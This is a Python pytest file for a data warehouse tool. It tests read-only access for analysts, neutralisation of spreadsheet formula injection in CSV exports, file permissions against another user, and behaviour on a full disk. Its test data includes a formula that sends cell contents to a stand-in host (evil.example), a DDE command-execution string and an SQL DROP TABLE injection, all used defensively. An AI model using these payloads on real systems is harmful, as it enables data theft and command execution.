"""Who may touch what: analysts read, the pipeline alone writes.

* every analyst-facing command opens the published file read-only, and what it exports to a
  spreadsheet cannot run as a formula;
* the published file is 0444 in a directory only the pipeline's user may write: another user
  (nobody, in a child process) can read it but not write, replace or delete it;
* a full disk while the publish copy is written: a clear error, the published version untouched,
  and the next publish (with space again) succeeds.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import os
import shutil
import stat
import subprocess
import tempfile
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from evalwh.cli import main
from evalwh.config import paths as make_paths
from evalwh.publish import publish
from evalwh.quality.testing import build_publishable, passing_gate

from .conftest import shared_dir
from .procs import child_env, start, wait_measured

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "x'); DROP TABLE marts.fct_commitment; --",
    "长春市",
]


def _published_warehouse(root: Path):
    fx = build_publishable(root)
    p = fx.paths
    publish(p.staging_db, p.published_db, p.ingest_db, fx.run_id, passing_gate())
    return fx


@pytest.fixture(scope="session")
def published(tmp_path_factory):
    """A published warehouse (fixture marts), built once per test run; tests only read it."""
    root = shared_dir(
        tmp_path_factory, "access_published", lambda r: _published_warehouse(r / "wh")
    )
    return make_paths(root / "wh" / "raw", root / "wh")


def cli(*args: str):
    return CliRunner().invoke(main, list(args))


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# ---------------------------------------------------------------------------- exports
def test_query_csv_neutralises_formula_injection_and_keeps_numbers(tmp_path):
    wh = tmp_path / "wh"
    db = wh / "published" / "evaluation.duckdb"
    db.parent.mkdir(parents=True)
    with duckdb.connect(str(db)) as con:
        con.execute("create schema marts")
        con.execute(
            "create table marts.dim_region (region_code varchar, region_name varchar, score double)"
        )
        con.executemany(
            "insert into marts.dim_region values (?, ?, ?)",
            [[f"22010{i}", text, -4.2 * i] for i, text in enumerate(HOSTILE_TEXT)],
        )
    out = tmp_path / "export.csv"
    sql = (
        "select region_name, score, region_name as again from marts.dim_region order by region_code"
    )
    result = cli("--warehouse-dir", str(wh), "query", sql, "--csv", str(out))
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["region_name", "score", "again"]
    for i, ((name, score, again), original) in enumerate(zip(rows[1:], HOSTILE_TEXT, strict=True)):
        assert name == again
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name
        assert name in (original, "'" + original)  # only the apostrophe is added
        assert float(score) == pytest.approx(-4.2 * i)  # numbers stay numbers, minus sign too
    assert rows[-1][0] == "长春市"


def test_parquet_export_is_typed_data_and_left_as_it_is(tmp_path):
    """Parquet is not opened by a spreadsheet as text-with-formulas: values are kept exactly."""
    wh = tmp_path / "wh"
    db = wh / "published" / "evaluation.duckdb"
    db.parent.mkdir(parents=True)
    with duckdb.connect(str(db)) as con:
        con.execute("create schema marts; create table marts.t as select '=1+1' as v")
    out = tmp_path / "t.parquet"
    assert (
        cli("--warehouse-dir", str(wh), "query", "from marts.t", "--parquet", str(out)).exit_code
        == 0
    )
    assert duckdb.sql(f"from read_parquet('{out}')").fetchall() == [("=1+1",)]


# ---------------------------------------------------------------------------- read-only
@pytest.mark.parametrize(
    "sql",
    [
        "create table marts.evil as select 1",
        "drop table marts.fct_commitment",
        "update marts.fct_evaluation set score = 0",
        "insert into audit.published_versions values (99, 'x', now(), 1, 1, null)",
    ],
)
def test_analyst_query_cannot_change_the_published_file(published, sql):
    p = published
    before = sha(p.published_db)
    result = cli("--warehouse-dir", str(p.warehouse_dir), "query", sql)
    assert result.exit_code != 0
    assert "read-only" in result.output.lower() or "read only" in result.output.lower()
    assert sha(p.published_db) == before


def test_shell_and_status_open_read_only(published):
    p = published
    before = sha(p.published_db)
    shell = CliRunner().invoke(
        main,
        ["--warehouse-dir", str(p.warehouse_dir), "shell"],
        input="create table marts.evil as select 1;\nselect count(*) from marts.fct_evaluation;\n",
    )
    assert shell.exit_code == 0 and "read-only" in shell.output.lower()
    status = cli("--warehouse-dir", str(p.warehouse_dir), "status")
    assert status.exit_code == 0 and "Published version 1" in status.output
    assert sha(p.published_db) == before
    with duckdb.connect(str(p.published_db), read_only=True) as con:
        assert con.execute(
            "select count(*) from duckdb_tables() where table_name = 'evil'"
        ).fetchall() == [(0,)]


OTHER_USER = """
import os, sys, duckdb
os.setgid(65534); os.setuid(65534)  # nobody
db = sys.argv[1]
mine = f"/tmp/evalwh-nobody-{os.getpid()}"
open(mine, "w").close()
with duckdb.connect(db, read_only=True) as con:
    print("read", con.execute("select count(*) from marts.fct_evaluation").fetchall()[0][0])
for attempt, action in [
    ("open for writing", lambda: open(db, "r+b")),
    ("duckdb read-write", lambda: duckdb.connect(db)),
    ("replace", lambda: os.replace(mine, db)),
    ("new file beside it", lambda: open(db + ".evil", "xb")),
    ("delete", lambda: os.unlink(db)),
    ("chmod", lambda: os.chmod(db, 0o666)),
]:
    try:
        action()
        print("ALLOWED", attempt)
    except (PermissionError, duckdb.Error) as exc:
        print("refused", attempt, type(exc).__name__)
os.unlink(mine)
"""


def test_another_user_can_read_but_not_write_replace_or_delete(published, tmp_path):
    # the test run's temp dir is private (0700): publish a copy where nobody may look
    root = Path(tempfile.mkdtemp(prefix="evalwh-access-", dir="/tmp"))
    try:
        os.chmod(root, 0o755)
        shutil.copytree(published.warehouse_dir, root / "wh", symlinks=True)
        _other_user_checks(make_paths(root / "wh" / "raw", root / "wh"))
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _other_user_checks(p) -> None:
    assert stat.S_IMODE(p.published_db.stat().st_mode) == 0o444
    assert stat.S_IMODE(p.published_db.parent.stat().st_mode) & 0o022 == 0
    proc = start(OTHER_USER, str(p.published_db), env=child_env(HOME="/tmp"), cwd=Path("/tmp"))
    result = wait_measured(proc, 60)
    assert result.returncode == 0, result.stderr[-2000:]
    lines = result.stdout.splitlines()
    assert lines[0].startswith("read ") and int(lines[0].split()[1]) > 0
    assert [ln for ln in lines if ln.startswith("ALLOWED")] == []
    assert len([ln for ln in lines if ln.startswith("refused")]) == 6


# ---------------------------------------------------------------------------- disk full
def _mount_tmpfs(target: Path, size: int) -> bool:
    target.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(target)],
        capture_output=True,
        check=False,
    )
    return done.returncode == 0


def test_disk_full_while_writing_the_publish_copy(tmp_path):
    fx = _published_warehouse(tmp_path / "wh")
    p = fx.paths
    published_dir = p.published_db.parent
    used = sum(f.stat().st_size for f in published_dir.rglob("*") if f.is_file())
    size = used + p.staging_db.stat().st_size // 2 + (64 << 10)  # room for half a copy
    saved = tmp_path / "saved"
    shutil.copytree(published_dir, saved, symlinks=True)
    if not _mount_tmpfs(published_dir, size):
        pytest.skip("mount -t tmpfs is not permitted here")
    try:
        shutil.copytree(saved, published_dir, symlinks=True, dirs_exist_ok=True)
        before = sha(p.published_db)
        with pytest.raises(OSError) as raised:
            publish(p.staging_db, p.published_db, p.ingest_db, "run-full", passing_gate())
        assert raised.value.errno == errno.ENOSPC
        assert "No space left on device" in str(raised.value)
        assert sha(p.published_db) == before
        assert p.published_db.with_name("evaluation.duckdb.sha256").read_text().split()[0] == before
        assert not list(published_dir.glob(".evaluation.duckdb.tmp-*"))  # the copy is removed
        with duckdb.connect(str(p.ingest_db), read_only=True) as con:
            assert con.execute(
                "select version, sha256 from audit.published_versions"
            ).fetchall() == [(1, before)]
        with duckdb.connect(str(p.published_db), read_only=True) as con:
            assert con.execute("select count(*) from marts.fct_evaluation").fetchall()[0][0] > 0
        # space again: the next publish succeeds
        subprocess.run(["mount", "-o", f"remount,size={size * 4}", str(published_dir)], check=True)
        version = publish(p.staging_db, p.published_db, p.ingest_db, "run-next", passing_gate())
        assert version.version == 2 and sha(p.published_db) == version.sha256
    finally:
        subprocess.run(["umount", str(published_dir)], check=False)
